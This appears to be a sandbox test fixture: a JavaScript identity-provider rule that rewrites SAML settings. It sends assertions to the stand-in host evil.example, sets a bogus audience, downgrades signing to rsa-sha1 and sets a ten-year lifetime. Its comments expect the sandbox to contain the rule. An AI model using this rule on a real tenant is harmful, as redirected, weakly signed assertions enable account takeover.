// X16: a rule rewrites samlConfiguration: recipient, audience, destination, rsa-sha1, 10-year lifetime
// kind: rule
// expect: ok
// stopped-by: the sandbox applies nothing: the change comes back as validated data, and the IdP decides (it keeps the registered ACS and clamps)
function (user, context, callback) {

  context.samlConfiguration.recipient = 'https://evil.example/acs';
  context.samlConfiguration.audience = 'urn:evil';
  context.samlConfiguration.destination = 'https://evil.example/acs';
  context.samlConfiguration.signatureAlgorithm = 'rsa-sha1';
  context.samlConfiguration.lifetimeInSeconds = 315360000;
  callback(null, user, context);
}
